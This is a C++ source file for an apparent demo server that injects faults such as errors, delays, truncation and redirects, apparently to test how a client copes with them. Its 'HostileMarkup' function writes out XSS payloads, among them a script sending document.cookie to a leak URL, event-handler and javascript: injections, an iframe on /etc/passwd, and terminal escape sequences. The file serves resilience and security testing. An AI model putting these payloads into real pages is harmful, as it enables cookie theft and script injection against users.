#include "faults.h"

#include <algorithm>

namespace talvenor::demo {

namespace {

struct KindName {
    const char* name;
    FaultKind kind;
};

const KindName kKinds[] = {
    {"status", FaultKind::Status},     {"delay", FaultKind::Delay},
    {"trickle", FaultKind::Trickle},   {"redirectloop", FaultKind::RedirectLoop},
    {"redirect", FaultKind::Redirect}, {"badutf8", FaultKind::BadUtf8},
    {"cutoff", FaultKind::CutOff},     {"nomarker", FaultKind::NoMarker},
    {"empty", FaultKind::EmptyBody},   {"hold", FaultKind::Hold},
    {"hostile", FaultKind::Hostile},   {"busy", FaultKind::Busy},
    {"flaky", FaultKind::Flaky},       {"rate", FaultKind::Rate},
};

bool AllDigits(const std::string& s) {
    return !s.empty() && s.size() <= 9 &&
           std::all_of(s.begin(), s.end(), [](char c) { return c >= '0' && c <= '9'; });
}

// "KIND[:ARG][@TIMES]"; false when KIND is not a known kind.
bool ParseKind(std::string text, Fault* fault, std::string* error) {
    auto at = text.rfind('@');
    if (at != std::string::npos && AllDigits(text.substr(at + 1))) {
        fault->times = std::stoi(text.substr(at + 1));
        if (fault->times == 0) {
            if (error) *error = "@0 would never hit";
            return false;
        }
        text.erase(at);
    }
    auto colon = text.find(':');
    std::string name = text.substr(0, colon);
    std::string arg = colon == std::string::npos ? "" : text.substr(colon + 1);
    const KindName* found = nullptr;
    for (const auto& k : kKinds)
        if (name == k.name) found = &k;
    if (!found) return false;
    fault->kind = found->kind;
    if (fault->kind == FaultKind::Redirect) {
        if (arg.empty()) {
            if (error) *error = "redirect needs a location";
            return false;
        }
        fault->location = arg;
    } else if (!arg.empty()) {
        if (!AllDigits(arg)) {
            if (error) *error = "\"" + arg + "\" is not a number";
            return false;
        }
        fault->value = std::stoi(arg);
    }
    return true;
}

}  // namespace

bool ParseFault(const std::string& rule, Fault* fault, std::string* error) {
    auto colon = rule.find(':');
    if (colon == std::string::npos) {
        if (error) *error = "expected HOST:SUBSTRING=KIND[:ARG][@TIMES]";
        return false;
    }
    // The substring may itself hold "=" (a query): the first "=" followed by
    // a known kind ends it.
    std::string rest = rule.substr(colon + 1);
    for (size_t eq = rest.find('='); eq != std::string::npos; eq = rest.find('=', eq + 1)) {
        Fault f;
        f.host = rule.substr(0, colon);
        if (f.host == "*") f.host.clear();
        f.match = rest.substr(0, eq);
        std::string kindError;
        if (ParseKind(rest.substr(eq + 1), &f, &kindError)) {
            *fault = f;
            return true;
        }
        if (!kindError.empty()) {
            if (error) *error = kindError;
            return false;
        }
    }
    if (error) *error = "no known fault kind after \"=\"";
    return false;
}

std::string FaultUsage() {
    return "  HOST:SUBSTRING=KIND[:ARG][@TIMES]\n"
           "  HOST       a demo host name (duowan.localhost, ...) or * for every host\n"
           "  SUBSTRING  the fault hits requests whose path and query contain it (may be empty)\n"
           "  KIND       status[:CODE]   error status with an error page (500)\n"
           "             delay[:MS]      wait before answering (3000)\n"
           "             trickle[:MS]    send the body in 64-byte pieces, MS apart (200)\n"
           "             redirect:URL    302 to URL\n"
           "             redirectloop    302 into an endless chain of redirects\n"
           "             badutf8         a stray byte 0xB0 in the middle of the page\n"
           "             cutoff[:BYTES]  announce the full length, send BYTES (half), close\n"
           "             nomarker        remove the page's list or content markers\n"
           "             empty           200 with an empty body\n"
           "             hold            no answer at all (until the server stops)\n"
           "             hostile         script, frames, a redirect and the like put into the page\n"
           "             busy[:SECS]     429 with Retry-After: SECS (1)\n"
           "             flaky[:N]       one request in N (3) gets a 503\n"
           "             rate[:KB]       send the body at KB kilobytes a millisecond (10), as a link would\n"
           "  @TIMES     only the next TIMES requests (default: all)\n";
}

std::string HostileMarkup(const std::string& leakBase) {
    const std::string leak = leakBase + "/leak";
    const std::string pwn = "document.title='pwned';document.documentElement.setAttribute('data-pwned','1');";
    return "<script>" + pwn + "new Image().src='" + leak +
           "?script='+document.cookie</script>"
           "<img src=nothing onerror=\"" +
           pwn + "new Image().src='" + leak +
           "?onerror'\">"
           "<svg onload=\"" +
           pwn + "\"><a xlink:href=\"javascript:" + pwn +
           "\">svg</a></svg>"
           "<iframe src=\"file:///etc/passwd\"></iframe><iframe src=\"" +
           leak +
           "?frame\"></iframe>"
           "<object data=\"" +
           leak + "?object\"></object><embed src=\"" + leak +
           "?embed\">"
           "<meta http-equiv=refresh content=\"0;url=" +
           leak +
           "?refresh\">"
           "<link rel=stylesheet href=\"" +
           leak + "?css\"><base href=\"" + leak +
           "/\"><img src=\"base.gif\">"
           "<form action=\"" +
           leak + "?form\"><input autofocus onfocus=\"" + pwn +
           "\"></form>"
           "<noscript><img src=nothing onerror=\"" +
           pwn +
           "\"></noscript>"
           "<a href=\"javascript:" +
           pwn + "\">js</a><body onload=\"" + pwn +
           "\">"
           "<select><img src=nothing onerror=\"" +
           pwn +
           "\"></select>"
           // For a terminal: retitle the window, clear the screen.
           "\x1b]0;pwned\x07\x1b[2J";
}

int FaultTable::Add(const Fault& fault) {
    std::lock_guard<std::mutex> lock(mutex_);
    faults_.push_back({nextId_, fault});
    return nextId_++;
}

void FaultTable::Remove(int id) {
    std::lock_guard<std::mutex> lock(mutex_);
    faults_.erase(
        std::remove_if(faults_.begin(), faults_.end(), [id](const auto& f) { return f.first == id; }),
        faults_.end());
}

void FaultTable::Clear() {
    std::lock_guard<std::mutex> lock(mutex_);
    faults_.clear();
}

std::optional<Fault> FaultTable::Take(const std::string& host, const std::string& target) {
    std::lock_guard<std::mutex> lock(mutex_);
    for (auto it = faults_.begin(); it != faults_.end(); ++it) {
        Fault& f = it->second;
        if (!f.host.empty() && f.host != "*" && f.host != host) continue;
        if (target.find(f.match) == std::string::npos) continue;
        if (f.kind == FaultKind::Flaky && ++f.seen % (f.value > 0 ? f.value : 3) != 0) continue;
        Fault hit = f;
        if (f.times > 0 && --f.times == 0) faults_.erase(it);
        return hit;
    }
    return std::nullopt;
}

}  // namespace talvenor::demo
